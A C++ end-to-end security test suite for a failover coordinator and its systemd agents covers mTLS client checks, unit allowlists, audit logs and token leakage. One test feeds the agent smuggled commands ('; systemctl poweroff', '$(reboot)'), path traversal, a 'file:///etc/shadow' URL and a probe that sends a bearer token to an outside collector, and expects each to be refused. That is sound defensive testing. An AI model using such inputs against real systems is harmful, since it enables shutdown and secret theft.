// Issue 4: only the coordinator, only allowed units, nothing executable from the wire, secrets
// stay secret, every action audited. Against real agents on the real-systemd test bed.
#include <filesystem>
#include <fstream>
#include <thread>

#include "failover/tls.h"
#include "failover/v1/agent.grpc.pb.h"
#include "gtest/gtest.h"
#include "harness.h"

namespace failover::e2e {
namespace {

std::unique_ptr<v1::Agent::Stub> AgentStub(const std::string& certs_dir, const std::string& name, bool with_cert = true) {
  TlsFiles files{StateDir() + "/certs/ca.pem", certs_dir + "/" + name + ".pem", certs_dir + "/" + name + ".key"};
  std::shared_ptr<grpc::ChannelCredentials> creds;
  if (with_cert) {
    creds = *MakeChannelCredentials(files);
  } else {
    grpc::SslCredentialsOptions o;
    o.pem_root_certs = ReadFileOrEmpty(files.ca_file);
    creds = grpc::SslCredentials(o);
  }
  return v1::Agent::NewStub(grpc::CreateCustomChannel("10.77.0.11:7700", creds, DefaultChannelArguments("api")));
}

grpc::Status GetState(v1::Agent::Stub* stub, const std::string& unit = "sls-api.service") {
  grpc::ClientContext ctx;
  ctx.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(3));
  v1::GetStateRequest req;
  req.add_units(unit);
  v1::GetStateResponse resp;
  return stub->GetState(&ctx, req, &resp);
}

grpc::Status Execute(v1::Agent::Stub* stub, const v1::ExecuteRequest& req) {
  grpc::ClientContext ctx;
  ctx.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(30));
  auto reader = stub->Execute(&ctx, req);
  v1::AgentEvent e;
  while (reader->Read(&e)) {
  }
  return reader->Finish();
}

v1::ExecuteRequest StopRequest(const std::string& unit) {
  v1::ExecuteRequest req;
  req.set_run_id("sec-test");
  req.set_step_id("s1");
  req.set_operation(v1::OPERATION_STOP);
  req.add_units(unit);
  req.set_job_timeout_ms(5000);
  req.set_lease_ms(20000);
  return req;
}

class SecurityE2E : public ::testing::Test {
 protected:
  void SetUp() override { ResetTestBed(); }
  void TearDown() override { ResetTestBed(); }
};

TEST_F(SecurityE2E, AgentRefusesClientsWithoutACertificateOrFromAnotherCA) {
  auto coordinator = AgentStub(StateDir() + "/certs", "coordinator");
  EXPECT_TRUE(GetState(coordinator.get()).ok()) << GetState(coordinator.get()).error_message();

  auto no_cert = AgentStub(StateDir() + "/certs", "coordinator", /*with_cert=*/false);
  EXPECT_FALSE(GetState(no_cert.get()).ok());

  auto other_ca = AgentStub(StateDir() + "/certs-other", "coordinator");
  EXPECT_FALSE(GetState(other_ca.get()).ok());

  auto plaintext = v1::Agent::NewStub(grpc::CreateChannel("10.77.0.11:7700", grpc::InsecureChannelCredentials()));
  EXPECT_FALSE(GetState(plaintext.get()).ok());

  // Same CA, but not an allowed client identity.
  auto intruder = AgentStub(StateDir() + "/certs", "intruder");
  grpc::Status s = GetState(intruder.get());
  EXPECT_EQ(s.error_code(), grpc::StatusCode::PERMISSION_DENIED) << s.error_message();
  EXPECT_NE(s.error_message().find("intruder"), std::string::npos);
}

TEST_F(SecurityE2E, UnitOutsideTheAllowlistIsRefusedAndLeftAlone) {
  auto stub = AgentStub(StateDir() + "/certs", "coordinator");
  const uint32_t agent_pid = MainPid("api", "failover-agent.service");
  const std::string journald_state = ActiveState("api", "systemd-journald.service");
  for (const char* unit : {"failover-agent.service", "systemd-journald.service", "dbus.service"}) {
    grpc::Status s = Execute(stub.get(), StopRequest(unit));
    EXPECT_EQ(s.error_code(), grpc::StatusCode::PERMISSION_DENIED) << unit;
    EXPECT_NE(s.error_message().find(unit), std::string::npos) << s.error_message();
  }
  EXPECT_EQ(GetState(stub.get(), "dbus.service").error_code(), grpc::StatusCode::PERMISSION_DENIED);
  EXPECT_EQ(MainPid("api", "failover-agent.service"), agent_pid);
  EXPECT_EQ(ActiveState("api", "systemd-journald.service"), journald_state);
  EXPECT_EQ(ActiveState("api", "dbus.service"), "active");
}

TEST_F(SecurityE2E, NothingExecutableOrAPathCanBeSmuggledThroughAnyField) {
  auto stub = AgentStub(StateDir() + "/certs", "coordinator");
  const uint32_t pid = MainPid("api", "sls-api.service");
  std::vector<v1::ExecuteRequest> bad;
  for (const char* unit : {"sls-api.service; systemctl poweroff", "sls-api.service --now", "../../../bin/sh.service",
                           "/etc/systemd/system/sls-api.service", "$(reboot).service", "sls-api.service\nsshd.service"})
    bad.push_back(StopRequest(unit));
  auto with_probe = [&](auto set) {
    v1::ExecuteRequest r = StopRequest("sls-api.service");
    auto* p = r.add_probes();
    p->set_name("p");
    p->set_timeout_ms(100);
    set(p);
    bad.push_back(r);
  };
  with_probe([](v1::ProbeSpec* p) { p->mutable_http()->set_url("file:///etc/shadow"); });
  with_probe([](v1::ProbeSpec* p) { p->mutable_http()->set_url("gopher://127.0.0.1:25/x"); });
  with_probe([](v1::ProbeSpec* p) { p->mutable_http()->set_url("http://x/ ; id"); });
  with_probe([](v1::ProbeSpec* p) { p->mutable_unit()->set_unit("sls-api.service; id"); });
  with_probe([](v1::ProbeSpec* p) { p->mutable_tcp()->set_host("127.0.0.1"); p->mutable_tcp()->set_port(70000); });
  {
    v1::ExecuteRequest r = StopRequest("sls-api.service");
    r.set_run_id("$(touch /tmp/pwned)");
    bad.push_back(r);
  }
  {
    v1::ExecuteRequest r = StopRequest("sls-api.service");
    r.set_step_id(std::string(100000, 'x'));
    bad.push_back(r);
  }
  with_probe([](v1::ProbeSpec* p) { p->mutable_http()->set_url("http://user:pw@127.0.0.1:8080/health"); });
  for (const auto& req : bad) {
    grpc::Status s = Execute(stub.get(), req);
    EXPECT_EQ(s.error_code(), grpc::StatusCode::INVALID_ARGUMENT) << req.ShortDebugString().substr(0, 200);
  }
  // The agent's secrets go only where its own config allows (here: its loopback), never to a
  // URL a request names.
  v1::ExecuteRequest exfil = StopRequest("sls-api.service");
  auto* p = exfil.add_probes();
  p->set_name("exfil");
  p->set_timeout_ms(100);
  p->mutable_http()->set_url("http://10.77.0.1:9/collect");
  p->mutable_http()->set_bearer_secret("panel_token");
  grpc::Status denied = Execute(stub.get(), exfil);
  EXPECT_EQ(denied.error_code(), grpc::StatusCode::PERMISSION_DENIED) << denied.error_message();
  EXPECT_NE(denied.error_message().find("may not be sent to"), std::string::npos);
  EXPECT_EQ(MainPid("api", "sls-api.service"), pid) << "nothing changed";
  EXPECT_FALSE(std::filesystem::exists("/tmp/pwned"));
}

TEST_F(SecurityE2E, ExecutedRunIsAuditedAndThePanelTokenAppearsNowhere) {
  const std::string audit = StateDir() + "/hosts/api/audit.log";
  const size_t audit_before = ReadFileOrEmpty(audit).size();
  Coordinator coord("audit");
  CmdResult ok = coord.Ctl({"run", "--execute"});
  ASSERT_EQ(ok.rc, 0) << ok.err;
  SetControl("cerebro", "sls-cerebro.health-status", "401");
  CmdResult failed = coord.Ctl({"run", "--execute"});
  EXPECT_EQ(failed.rc, 1);
  CmdResult health = coord.Ctl({"health"});

  const std::string entries = ReadFileOrEmpty(audit).substr(audit_before);
  for (const char* want : {"\"caller\":\"coordinator\"", "\"unit\":\"sls-bot.service\"", "\"operation\":\"stop\"",
                           "\"operation\":\"start\"", "\"phase\":\"begin\"", "\"phase\":\"end\"", "\"result\":\"done\""})
    EXPECT_NE(entries.find(want), std::string::npos) << want << "\n" << entries;

  const std::string token = PanelToken();
  ASSERT_GE(token.size(), 16u);
  std::string everything = ok.out + ok.err + failed.out + failed.err + health.out + health.err +
                           ReadFileOrEmpty(coord.state_dir() + "/coordinator.log");
  for (const auto& e : std::filesystem::recursive_directory_iterator(coord.state_dir()))
    if (e.is_regular_file()) everything += ReadFileOrEmpty(e.path().string());
  for (const char* h : {"api", "cerebro", "panel"}) {
    everything += ReadFileOrEmpty(StateDir() + "/hosts/" + h + "/audit.log");
    everything += HostExec(h, {"journalctl", "--no-pager", "-o", "cat"}).out;
  }
  EXPECT_GT(everything.size(), 10000u) << "logs, reports and events were collected";
  EXPECT_EQ(everything.find(token), std::string::npos) << "PANEL_TOKEN leaked";
}

TEST(SecurityConfig, CoordinatorOverTcpRequiresMutualTls) {
  const std::string certs = StateDir() + "/certs";
  // TCP without TLS is refused at start-up.
  CmdResult plain = RunCmd({BinDir() + "/failover-coordinator", "--listen", "127.0.0.1:17790"}, {}, 10);
  EXPECT_EQ(plain.rc, 2);
  EXPECT_NE(plain.err.find("needs mTLS"), std::string::npos) << plain.err;

  Coordinator coord("tcp", {"--listen", "127.0.0.1:17791", "--tls-ca", certs + "/ca.pem", "--tls-cert",
                            certs + "/coordinator.pem", "--tls-key", certs + "/coordinator.key",
                            "--allowed-clients", "operator"},
                    /*keep_state=*/false, /*wait_for_socket=*/false);
  const std::vector<std::string> base = {BinDir() + "/failoverctl", "--coordinator", "127.0.0.1:17791",
                                         "--tls-server-name", "coordinator", "--tls-ca", certs + "/ca.pem"};
  auto with = [&](std::vector<std::string> extra) {
    std::vector<std::string> argv = base;
    argv.insert(argv.end(), extra.begin(), extra.end());
    argv.push_back("plan");
    return RunCmd(argv, {}, 30);
  };
  CmdResult ok;
  for (int i = 0; i < 50; ++i) {  // the coordinator may still be starting
    ok = with({"--tls-cert", certs + "/operator.pem", "--tls-key", certs + "/operator.key"});
    if (ok.rc == 0) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  EXPECT_EQ(ok.rc, 0) << ok.err;
  EXPECT_NE(ok.out.find("01-restart-sls-bot"), std::string::npos);
  CmdResult intruder = with({"--tls-cert", certs + "/intruder.pem", "--tls-key", certs + "/intruder.key"});
  EXPECT_EQ(intruder.rc, 1);
  EXPECT_NE(intruder.err.find("is not in the coordinator's --allowed-clients"), std::string::npos) << intruder.err;
  CmdResult no_cert = with({});
  EXPECT_NE(no_cert.rc, 0);
  CmdResult other_ca = with({"--tls-cert", StateDir() + "/certs-other/coordinator.pem", "--tls-key",
                             StateDir() + "/certs-other/coordinator.key"});
  EXPECT_NE(other_ca.rc, 0);
  EXPECT_NE(other_ca.err.find("cannot reach the coordinator"), std::string::npos) << other_ca.err;
}

TEST(SecurityConfig, AgentRefusesPlaintextOnANonLoopbackAddress) {
  const std::string cfg = StateDir() + "/plaintext-agent.yaml";
  std::ofstream(cfg) << "host: x\nlisten: 10.77.0.1:7799\nallow_units: [sls-*.service]\ninsecure_plaintext: true\n";
  CmdResult r = RunCmd({BinDir() + "/failover-agent", "--config", cfg});
  EXPECT_EQ(r.rc, 2);
  EXPECT_NE(r.err.find("insecure_plaintext refuses the non-loopback listen address"), std::string::npos) << r.err;
  std::ofstream(cfg) << "host: x\nlisten: 10.77.0.1:7799\nallow_units: [sls-*.service]\n";
  r = RunCmd({BinDir() + "/failover-agent", "--config", cfg});
  EXPECT_EQ(r.rc, 2);
  EXPECT_NE(r.err.find("tls.ca, tls.cert and tls.key are required"), std::string::npos) << r.err;
}

}  // namespace
}  // namespace failover::e2e
